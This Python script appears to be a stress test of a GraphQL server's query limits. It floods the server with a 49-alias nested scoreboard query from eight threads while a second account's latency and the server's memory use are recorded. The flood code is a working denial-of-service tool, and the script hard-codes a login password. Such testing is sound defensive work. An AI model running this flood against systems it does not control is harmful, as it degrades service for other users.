#!/usr/bin/env python3
"""One account floods the server with the most expensive document the limits let through
(49 aliased scoreboards with every nested field) from 8 threads, while another account
asks `{ me { id } }` in a loop. Prints the second account's latencies, what the flood got
back, and the server's memory during and a minute after the flood. Standard library only.

usage: attack.py URL PID [SECONDS]
"""
import json
import sys
import threading
import time
import urllib.error
import urllib.request

URL, PID = sys.argv[1], int(sys.argv[2])
SECONDS = float(sys.argv[3]) if len(sys.argv) > 3 else 60.0
PASSWORD = "ChiTieu@2023"


def post(query, token=None, variables=None, timeout=120):
    body = json.dumps({"query": query, "variables": variables or {}}).encode()
    req = urllib.request.Request(URL + "/graphql", data=body, method="POST")
    req.add_header("Content-Type", "application/json")
    if token:
        req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def login(username):
    status, body = post(
        "mutation($u: String!, $p: String!) { login(username: $u, password: $p) { token } }",
        variables={"u": username, "p": PASSWORD},
    )
    return json.loads(body)["data"]["login"]["token"]


def rss_mb():
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


ROW = """{ rank score earned available unit { id code name kind parent { code name } }
  results { indicator { code name kind } period { year kind index } numerator denominator
            value target milestone status projection points maxPoints unit { code name } } }"""
ATTACK = "query Flood { " + " ".join(
    f"s{i}: scoreboard(period: {{year: 2023, kind: YTD, index: 10}}) {ROW}" for i in range(49)
) + " }"

attacker, victim = login("admin"), login("quanly")
before = rss_mb()
stop = time.monotonic() + SECONDS
outcomes, lock = {}, threading.Lock()
peak = [rss_mb()]


def flood():
    while time.monotonic() < stop:
        started = time.monotonic()
        status, body = post(ATTACK, attacker)
        try:
            errors = json.loads(body).get("errors") or []
            code = errors[0]["extensions"]["code"] if errors else "OK"
        except (ValueError, KeyError, IndexError):
            code = "unreadable"
        key = f"{status} {code}"
        with lock:
            n, total, size = outcomes.get(key, (0, 0.0, 0))
            outcomes[key] = (n + 1, total + time.monotonic() - started, max(size, len(body)))


def watch():
    while time.monotonic() < stop:
        peak[0] = max(peak[0], rss_mb())
        time.sleep(0.2)


threads = [threading.Thread(target=flood) for _ in range(8)] + [threading.Thread(target=watch)]
for t in threads:
    t.start()
time.sleep(2)  # let the flood fill the server first
latencies, failures = [], 0
while time.monotonic() < stop:
    started = time.monotonic()
    status, body = post("{ me { id } }", victim)
    latencies.append((time.monotonic() - started) * 1000)
    if status != 200 or b'"errors"' in body:
        failures += 1
    time.sleep(0.05)
for t in threads:
    t.join()
at_end = rss_mb()
time.sleep(60)
after = rss_mb()

latencies.sort()
pct = lambda p: latencies[min(len(latencies) - 1, int(p / 100 * len(latencies)))]
print(f"victim `me`: {len(latencies)} requests, {failures} failed, "
      f"p50 {pct(50):.1f} ms, p95 {pct(95):.1f} ms, p99 {pct(99):.1f} ms, max {latencies[-1]:.1f} ms")
for key, (n, total, size) in sorted(outcomes.items()):
    print(f"flood: {n} answers `{key}`, mean {total / n * 1000:.0f} ms, largest {size} bytes")
print(f"server RSS: {before:.0f} MB before, peak {peak[0]:.0f} MB during the flood, {at_end:.0f} MB at its end, "
      f"{after:.0f} MB a minute later")
